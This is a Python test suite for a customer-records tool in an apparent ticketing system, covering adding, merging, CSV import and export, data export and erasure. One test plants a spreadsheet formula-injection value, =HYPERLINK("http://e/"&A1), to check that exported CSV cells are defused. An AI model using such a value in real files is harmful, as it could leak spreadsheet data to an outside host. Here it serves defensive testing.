# SPDX-FileCopyrightText: The Foyer authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Customers: taken down, changed, found, merged, imported, given out and erased."""

import csv
import json
import unittest

from counter import Story

ROWS = [
    ["Nachname", "Vorname", "E-Mail", "Telefon", "Straße", "PLZ", "Ort", "Newsletter", "Gruppen"],
    ["Größe", "Renée", "renee@example.org", "+49 30 1234567", "Hauptstraße 12", "10117", "Berlin", "ja", "Presse"],
    ["כהן", "שרה", "sara@example.org", "", "", "", "", "nein", ""],
    ["Müller; Söhne", "", "", "0171 5551234", "Am \"Tor\" 3", "", "Köln", "", "Firma, Presse"],
    ["Kaputt", "", "keine Adresse", "", "", "", "", "", ""],
]


class CustomersStory(Story):
    def customer(self, *words):
        return self.ends(self.counter.run("customer", *words), 0)

    def found(self, *words):
        return self.customer("list", *words)["customers"]

    def only(self, *words):
        found = self.found(*words)
        self.assertEqual(len(found), 1, found)
        return found[0]

    def test1SomebodyIsTakenDownAndChanged(self):
        ada = self.customer("add", "--name", "Ada Lovelace", "--email", "ada@example.org")["customer"]
        end = ada["id"][-8:]
        self.customer("tag", end, "--add", "Friend")
        self.customer("note", end, "Needs a ramp.")
        self.customer("consent", end, "newsletter", "--given", "--how", "by phone")
        shown = self.customer("show", end)
        self.assertEqual(shown["customer"]["tags"], ["Friend"])
        self.assertTrue(shown["customer"]["consents"]["newsletter"]["given"])
        self.assertEqual([note["text"] for note in shown["notes"]], ["Needs a ramp."])
        self.assertEqual(self.customer("tag")["tags"], [{"tag": "Friend", "customers": 1}])
        tried = self.customer("edit", end, "--phone", "030 1234567", "--dry-run")["customer"]
        self.assertEqual(tried["phone"], "030 1234567")
        self.assertEqual(self.only("lovelace")["phone"], "")
        self.customer("edit", end, "--phone", "030 1234567")
        self.assertEqual(self.only("--agreed-to", "newsletter")["phone"], "030 1234567")
        self.ends(self.counter.run("customer", "edit", end, "--email", "nowhere"), 3, "bad_email")
        self.ends(self.counter.run("customer", "show", "ffffff"), 1, "unknown_customer")
        self.ends(self.counter.run("customer", "consent", end, "newsletter"), 2, "bad_usage")

    def test2TwoRecordsBecomeOnePerson(self):
        other = self.customer("add", "--name", "A. Byron", "--email", "ADA@example.org")["customer"]
        ada = self.only("lovelace")
        proposed = self.customer("duplicates")["duplicates"]
        self.assertEqual([each["why"] for each in proposed], ["same_email"])
        self.customer("merge", ada["id"], other["id"], "--dry-run")
        self.assertEqual(len(self.found("ada@example.org")), 2)
        merged = self.customer("merge", ada["id"], other["id"])["customer"]
        self.assertEqual(merged["merged"], [other["id"]])
        self.assertEqual(self.only("byron")["id"], ada["id"])
        self.assertEqual(self.ends(self.counter.run("customers", "byron"), 0)["customers"][0]["id"], ada["id"])
        self.customer("unmerge", other["id"])
        self.assertEqual(self.only("byron")["id"], other["id"])
        self.customer("merge", ada["id"], other["id"])

    def test3ATableIsImportedTakenBackAndWrittenAgain(self):
        table = self.counter.root / "kunden.csv"
        for encoding in ("utf-8", "utf-16", "cp1255"):
            rows = ROWS if encoding != "cp1255" else [[cell.replace("ß", "ss").replace("ö", "oe").replace("ü", "ue")
                                                       .replace("é", "e") for cell in row] for row in ROWS]
            with open(table, "w", newline="", encoding=encoding) as file:
                csv.writer(file, delimiter=";").writerows(rows)
            dry = self.customer("import", str(table), "--dry-run")
            self.assertEqual(dry["separator"], ";")
            self.assertEqual((dry["import"]["rows"], dry["import"]["added"], dry["import"]["refused"]), (4, 3, 1))
        with open(table, "w", newline="", encoding="utf-16") as file:
            csv.writer(file, delimiter=";").writerows(ROWS)
        done = self.customer("import", str(table), "--tag", "Import 1")
        self.assertEqual(done["encoding"], "UTF-16")
        self.assertEqual(done["mapping"]["name"], ["Vorname", "Nachname"])
        self.assertEqual([(each["line"], each["code"]) for each in done["import"]["refusals"]], [(5, "bad_email")])
        sara = self.only("sara@example.org")
        self.assertEqual(sara["name"], "שרה כהן")
        self.assertFalse(sara["consents"]["newsletter"]["given"])
        self.assertEqual(self.only("söhne")["tags"], ["Firma", "Import 1", "Presse"])
        self.assertEqual(self.only("Renée")["address"], "Hauptstraße 12\n10117\nBerlin")
        self.assertEqual(self.customer("import", str(table))["import"]["same"], 3)
        out = self.counter.root / "out.csv"
        self.customer("edit", sara["id"], "--name", "=HYPERLINK(\"http://e/\"&A1)")
        self.customer("list", "--tag", "import 1", "--csv", str(out))
        with open(out, newline="", encoding="utf-8") as file:
            written = list(csv.DictReader(file))
        for row in written:
            for cell in row.values():
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)
        self.assertEqual(self.customer("import", str(out), "--dry-run")["import"]["same"], 3)
        undone = self.customer("import-undo", done["import"]["id"])
        self.assertEqual((undone["removed"], undone["kept"]), (2, 1))
        self.assertEqual(len(self.found("--tag", "import 1")), 1)
        self.ends(self.counter.run("customer", "import-undo", done["import"]["id"]), 1, "import_undone")
        self.assertEqual([each["undone"] for each in self.customer("imports")["imports"]], [True])

    def test4SomebodyGetsAllThatIsKnownAndIsErased(self):
        ada = self.only("lovelace")
        self.ends(self.counter.sell("--performance", "Late Jazz", "--tickets", "Regular=1", "--pay", "cash=12",
                                    "--customer", ada["id"]), 0)
        paper, pages = self.counter.root / "ada.json", self.counter.root / "ada.pdf"
        self.customer("export", ada["id"], "--to", str(paper), "--pdf", str(pages))
        known = json.loads(paper.read_text(encoding="utf-8"))
        self.assertEqual([each["name"] for each in known["records"]], ["Ada Lovelace", "A. Byron"])
        self.assertEqual(len(known["orders"]), 1)
        self.assertIn("order.placed", [each["kind"] for each in known["history"]])
        self.assertTrue(pages.read_bytes().startswith(b"%PDF"))
        self.assertEqual(paper.stat().st_mode & 0o077, 0)
        told = self.customer("erase", ada["id"], "--dry-run")
        self.assertEqual((told["records"], told["orders_kept"]), (2, 1))
        self.customer("erase", ada["id"])
        self.assertEqual(self.found("lovelace"), [])
        self.ends(self.counter.run("customer", "show", ada["id"]), 1, "customer_erased")
        self.ends(self.counter.run("verify"), 0)


if __name__ == "__main__":
    unittest.main()
